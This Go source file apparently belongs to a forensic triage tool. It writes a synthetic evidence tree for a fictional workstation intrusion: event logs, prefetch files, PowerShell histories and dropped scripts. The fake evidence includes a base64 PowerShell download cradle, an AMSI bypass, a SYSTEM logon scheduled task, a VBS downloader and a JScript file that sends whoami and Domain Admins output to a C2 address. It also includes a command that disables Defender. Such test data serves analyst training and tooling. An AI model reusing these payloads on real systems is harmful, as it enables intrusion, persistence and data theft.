package demo

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"
	"unicode/utf16"

	"triage/internal/evtxwrite"
)

// The host and people of the story.
const (
	Host     = "WS-FIN-07"
	computer = "WS-FIN-07.corp.example.com"
	domain   = "CORP"
	c2       = "198.51.100.23"
)

// Day is the day of the intrusion.
var Day = time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC)

// at is a time on Day.
func at(hms string) time.Time {
	t, err := time.Parse("15:04:05.000", hms)
	if err != nil {
		panic("demo: bad time " + hms)
	}
	return Day.Add(time.Duration(t.Hour())*time.Hour + time.Duration(t.Minute())*time.Minute +
		time.Duration(t.Second())*time.Second + time.Duration(t.Nanosecond()))
}

type user struct {
	name, sid string
	logonID   uint64
}

var (
	alice   = user{"alice", "S-1-5-21-3623811015-3361044348-30300820-1104", 0x5a3c1f}
	itadmin = user{"itadmin", "S-1-5-21-3623811015-3361044348-30300820-1109", 0x7b21e4}
	system  = user{"WS-FIN-07$", "S-1-5-18", 0x3e7}
)

// Windows paths of the programs that appear.
const (
	cmdExe      = `C:\Windows\System32\cmd.exe`
	psExe       = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	wordExe     = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	explorerExe = `C:\Windows\explorer.exe`
	wscriptExe  = `C:\Windows\System32\wscript.exe`
	cscriptExe  = `C:\Windows\System32\cscript.exe`
	svchostExe  = `C:\Windows\System32\svchost.exe`
	servicesExe = `C:\Windows\System32\services.exe`
	schtasksExe = `C:\Windows\System32\schtasks.exe`
	javaExe     = `C:\Program Files\Java\jre1.8.0_431\bin\java.exe`
	wslExe      = `C:\Windows\System32\wsl.exe`
	wmicExe     = `C:\Windows\System32\wbem\WMIC.exe`
	wmiPrvSE    = `C:\Windows\System32\wbem\WmiPrvSE.exe`
	kitPython   = `C:\Users\Public\t\py\python.exe`
	kitNode     = `C:\Users\Public\t\node\node.exe`
	kitLua      = `C:\Users\Public\t\lua\lua.exe`
	autoItExe   = `C:\Users\alice\AppData\Local\Temp\AutoIt3.exe`

	batchPath = `C:\ProgramData\WinUpdate\update.bat`
	vbsPath   = `C:\Users\alice\AppData\Local\Temp\svc.vbs`
	jsPath    = `C:\Users\Public\Libraries\sync.js`
	docPath   = `C:\Users\alice\Downloads\Invoice_March.docm`
	luaPath   = `C:\Users\Public\t\p.lua`
	a3xPath   = `C:\Users\alice\AppData\Local\Temp\kl.a3x`
)

// cradle is the script the Word macro runs through -EncodedCommand.
const cradle = `IEX (New-Object Net.WebClient).DownloadString('http://` + c2 + `/s2.ps1')`

// encoded is cradle as PowerShell's -EncodedCommand takes it: base64 of
// UTF-16LE.
func encoded(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// nodePayload is the code node.exe decodes from base64 and runs: a
// download through child_process.
const nodePayload = `require('child_process').execSync('curl.exe -s -o C:\\Users\\Public\\t\\a.exe http://` + c2 + `/a.exe')`

var macroCmd = `cmd.exe /c powershell.exe -nop -w hidden -enc ` + encoded(cradle)

// stage2 is the second stage, logged as one script block in three parts.
var stage2 = []string{
	`$a=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')
$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
$d = Join-Path $env:ProgramData 'WinUpdate'
New-Item -ItemType Directory -Force -Path $d | Out-Null
`,
	`$bat = @'
` + batchContent + `'@
Set-Content -Path (Join-Path $d 'update.bat') -Value $bat -Encoding Ascii
(New-Object Net.WebClient).DownloadFile('http://` + c2 + `/svc.vbs', "$env:TEMP\svc.vbs")
`,
	`schtasks.exe /create /tn "Microsoft\Windows\WinUpdate" /tr "C:\ProgramData\WinUpdate\update.bat" /sc onlogon /ru SYSTEM /f
Start-Process wscript.exe -ArgumentList "//B $env:TEMP\svc.vbs"
`,
}

const batchContent = "@echo off\r\n" +
	"rem Windows Update helper\r\n" +
	"powershell.exe -nop -w hidden -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://" + c2 + "/beacon.ps1')\"\r\n" +
	"wscript.exe //B \"%TEMP%\\svc.vbs\"\r\n"

const vbsContent = "' sync helper\r\n" +
	"Set sh = CreateObject(\"WScript.Shell\")\r\n" +
	"Set http = CreateObject(\"MSXML2.XMLHTTP\")\r\n" +
	"http.Open \"GET\", \"http://" + c2 + "/sync.js\", False\r\n" +
	"http.Send\r\n" +
	"Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n" +
	"Set f = fso.CreateTextFile(\"C:\\Users\\Public\\Libraries\\sync.js\", True)\r\n" +
	"f.Write http.responseText\r\n" +
	"f.Close\r\n" +
	"sh.Run \"cscript.exe //nologo C:\\Users\\Public\\Libraries\\sync.js\", 0, False\r\n"

const jsContent = "var sh = new ActiveXObject(\"WScript.Shell\");\r\n" +
	"var out = sh.Exec(\"cmd.exe /c whoami /all & net group \\\"Domain Admins\\\" /domain\").StdOut.ReadAll();\r\n" +
	"var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n" +
	"x.open(\"POST\", \"http://" + c2 + "/r\", false);\r\n" +
	"x.send(out);\r\n"

// mapDrives is the administrators' logon script: ordinary, quiet.
const mapDrives = "@echo off\r\n" +
	"rem Map the finance shares at logon (IT ticket 4411)\r\n" +
	"net use F: \\\\fs01.corp.example.com\\finance /persistent:no\r\n" +
	"net use H: \\\\fs01.corp.example.com\\home\\%USERNAME% /persistent:no\r\n"

var aliceHistory = []string{
	`Get-ChildItem $env:USERPROFILE\Documents\Reports`,
	`Import-Csv .\march.csv | Measure-Object -Property Amount -Sum`,
	`cd C:\Users\Public`,
	`Invoke-WebRequest -Uri http://` + c2 + `/t.zip -OutFile C:\Users\Public\t.zip`,
	`Expand-Archive C:\Users\Public\t.zip -DestinationPath C:\Users\Public\t`,
	`Set-MpPreference -DisableRealtimeMonitoring $true`,
	`Remove-Item C:\Users\Public\t.zip`,
}

var adminHistory = []string{
	`Get-Service Spooler`,
	`Restart-Service Spooler`,
	`Get-WinEvent -LogName System -MaxEvents 20`,
	`Test-NetConnection fs01.corp.example.com -Port 445`,
	`gpupdate /force`,
}

// Write writes the evidence tree under dir (created if needed): the KAPE
// target layout, C\Windows\System32\winevt\Logs and so on. It refuses a dir
// that already holds files, so that nothing else is mixed in.
func Write(dir string) error {
	if entries, err := os.ReadDir(dir); err == nil && len(entries) > 0 {
		return fmt.Errorf("demo: %s is not empty", dir)
	}
	files, err := Files()
	if err != nil {
		return err
	}
	for _, f := range files {
		path := filepath.Join(dir, filepath.FromSlash(f.Path))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			return err
		}
		if err := os.WriteFile(path, f.Data, 0o644); err != nil {
			return err
		}
		if err := os.Chtimes(path, f.ModTime, f.ModTime); err != nil {
			return err
		}
	}
	return nil
}

// File is one file of the tree.
type File struct {
	Path    string // slash-separated, below the tree's root
	Data    []byte
	ModTime time.Time
}

// Files returns the tree's files sorted by path.
func Files() ([]File, error) {
	var out []File
	logs := Logs()
	names := make([]string, 0, len(logs))
	for name := range logs {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		b, err := evtxwrite.Bytes(logs[name])
		if err != nil {
			return nil, fmt.Errorf("demo: %s: %w", name, err)
		}
		out = append(out, File{"C/Windows/System32/winevt/Logs/" + name, b, collected})
	}
	for _, pf := range prefetchFiles() {
		b, err := pf.Compressed()
		if err != nil {
			return nil, fmt.Errorf("demo: %s: %w", pf.Name(), err)
		}
		out = append(out, File{"C/Windows/prefetch/" + pf.Name(), b, pf.LastRuns[0].Add(10 * time.Second)})
	}
	text := func(path, content string, mtime time.Time) {
		out = append(out, File{path, []byte(content), mtime})
	}
	history := `C/Users/%s/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt`
	text(fmt.Sprintf(history, "alice"), strings.Join(aliceHistory, "\r\n")+"\r\n", at("14:31:07.000"))
	text(fmt.Sprintf(history, "itadmin"), strings.Join(adminHistory, "\r\n")+"\r\n", at("10:22:40.000"))
	text("C/ProgramData/WinUpdate/update.bat", batchContent, at("14:03:09.000"))
	text("C/Users/alice/AppData/Local/Temp/svc.vbs", vbsContent, at("14:03:10.000"))
	text("C/Users/Public/Libraries/sync.js", jsContent, at("14:03:14.000"))
	text("C/Windows/System32/GroupPolicy/Machine/Scripts/Startup/map-drives.bat", mapDrives, Day.AddDate(0, -2, 3).Add(9*time.Hour))
	sort.Slice(out, func(i, j int) bool { return out[i].Path < out[j].Path })
	return out, nil
}

// Logs returns the events of each log file, by file name, in the order
// they are written (time order): record i+1 of a log is its event i.
func Logs() map[string][]evtxwrite.Event {
	logs := eventLogs()
	for _, evs := range logs {
		sort.SliceStable(evs, func(i, j int) bool { return evs[i].Time.Before(evs[j].Time) })
	}
	return logs
}

// collected is when the logs were collected: their modification time.
var collected = at("23:58:00.000")
